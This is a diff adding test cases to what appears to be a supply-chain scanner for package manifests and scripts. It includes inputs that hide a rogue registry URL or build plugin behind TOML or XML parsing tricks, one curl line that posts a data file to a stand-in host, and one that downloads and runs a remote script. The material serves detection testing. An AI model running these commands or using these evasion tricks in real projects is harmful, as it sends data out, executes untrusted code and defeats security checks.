@@ -33,6 +33,35 @@ const ELSEWHERE: [rule: string, path: string, text: string][] = [
   ["install-script", "setup.py", "import subprocess"],
   ["install-script", "pyproject.toml", '[build-system]\nbuild-backend = "mine"'],
   ["install-script", "Cargo.toml", '[package]\nbuild = ["a.rs", "b.rs"]'],
+  // Nothing that only tells people something hides what follows.
+  ["install-script", "Cargo.toml", '[package]\ndescription = """\n[\n"""\nbuild = "x.rs"'],
+  [
+    "foreign-source",
+    "pyproject.toml",
+    "[project]\ndescription = '''\n{\"\n'''\n[[tool.uv.index]]\nurl = \"https://badplace.io/s\"",
+  ],
+  [
+    "registry",
+    "pom.xml",
+    "<scm/><repository><url>https://badplace.io/m</url></repository><a></scm></a>",
+  ],
+  [
+    "registry",
+    "pom.xml",
+    "<a>&#60;scm></a><repository><url>https://badplace.io/m</url></repository><a></scm></a>",
+  ],
+  [
+    "registry",
+    "pom.xml",
+    "<a><![CDATA[<!--]]></a><repository><url>https://badplace.io/m</url></repository><!-- -->",
+  ],
+  [
+    "install-script",
+    "pom.xml",
+    '<!DOCTYPE p [<!ENTITY x "&#60;artifactId>exec-maven-plugin&#60;/artifactId>">]><p>&x;</p>',
+  ],
+  ["unknown-host", "bin/a.sh", "curl -e example.com -d @data badplace.io"],
+  ["remote-code", "bin/a.sh", "curl -s https://example.com/a -o a.log -o b.sh\n./b.sh"],
   ["install-script", "a.gemspec", "spec.extensions << 'ext/extconf.rb'"],
   ["install-script", "tools/gen.go", "//go:generate env bash x.sh"],
   ["install-script", "pom.xml", "<artifactId>exec-maven-plugin</artifactId>"],
